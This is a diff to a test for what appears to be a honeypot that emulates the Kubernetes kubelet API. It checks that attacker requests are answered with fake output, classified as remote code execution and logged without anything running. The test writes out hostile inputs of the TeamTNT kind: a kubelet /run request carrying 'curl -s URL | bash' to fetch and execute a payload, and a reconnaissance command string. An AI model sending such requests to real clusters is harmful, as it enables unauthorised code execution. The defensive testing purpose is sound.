@@ -607,8 +607,8 @@ def http_personas_answer_in_their_servers_form(ctx):
 @case
 def http_kubelet_api_over_tls(ctx):
     """curl -k against a trap on 10250, as TeamTNT scripts do: the trap terminates TLS, /pods lists
-    one pod on the SSH shell's host, /run/NS/POD/CONTAINER answers 200 with no output, anything else
-    the kubelet's plain 404.  The run request is classified rce, its cmd goes to the shell parser
+    one pod on the SSH shell's host, /run/NS/POD/CONTAINER answers 200 with what the command prints
+    on the emulated machine (never run), anything else the kubelet's plain 404.  The run request is classified rce, its cmd goes to the shell parser
     and its URL is logged; nothing runs."""
     need("curl")
     ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
@@ -629,12 +629,17 @@ def http_kubelet_api_over_tls(ctx):
     code, body = curl("-X", "POST", base + "/run/default/%s/nginx" % pods["items"][0]["metadata"]["name"],
                       "--data-urlencode", "cmd=sh -c \"curl -s %s | bash\"" % url)
     assert code == 200 and body == "", (code, body)
+    # what the command prints on the emulated machine (never run): scanners check for it
+    code, body = curl("-X", "POST", base + "/run/default/%s/nginx" % pods["items"][0]["metadata"]["name"],
+                      "--data-urlencode", "cmd=id; echo $((1337*7)); cat /etc/hostname; nosuchcmd")
+    assert code == 200 and body == "uid=0(root) gid=0(root) groups=0(root)\n9359\n%s\n" % identity(d, "hostname"), \
+        (code, body)
     code, body = curl(base + "/configz")
     assert code == 404 and body.strip() == "404 page not found", (code, body)
-    wait_for(lambda: len(requests_of(d.events())) >= 3, T(20), what="three requests")
+    wait_for(lambda: len(requests_of(d.events())) >= 4, T(20), what="four requests")
     time.sleep(0.5)
     evs = stop_and_read(d)
-    assert len([e for e in evs if e["eventid"] == "tls.client_hello"]) == 3, [e["eventid"] for e in evs]
+    assert len([e for e in evs if e["eventid"] == "tls.client_hello"]) == 4, [e["eventid"] for e in evs]
     run = [e for e in requests_of(evs) if e["uri"].startswith("/run/")]
     assert run and run[0]["tls"] is True and "rce" in run[0]["attack_classes"], run
     assert run[0]["rule"] == "kubelet-run" and ["curl", "-s", url] in run[0]["injected"], run[0]
